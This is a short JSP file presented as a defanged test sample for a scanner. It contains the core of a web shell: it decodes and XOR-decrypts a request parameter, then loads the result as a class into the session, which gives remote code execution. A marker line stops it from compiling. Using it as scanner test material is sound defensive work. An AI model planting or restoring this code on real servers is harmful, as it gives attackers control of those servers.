<%-- DEFANGED vigil test sample (see README): the scriptlet below does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%!
    String xc = "3c6e0b8a9c15224a";
    public byte[] x(byte[] s, boolean m) {
        byte[] r = new byte[s.length], k = xc.getBytes();
        for (int i = 0; i < s.length; i++) { r[i] = (byte) (s[i] ^ k[i + 1 & 15]); }
        return r;
    }
%>
<%
    byte[] data = x(java.util.Base64.getDecoder().decode(request.getParameter("pass")), false);
    if (session.getAttribute("payload") == null) {
        session.setAttribute("payload", new X(this.getClass().getClassLoader()).Q(data));
    }
%>
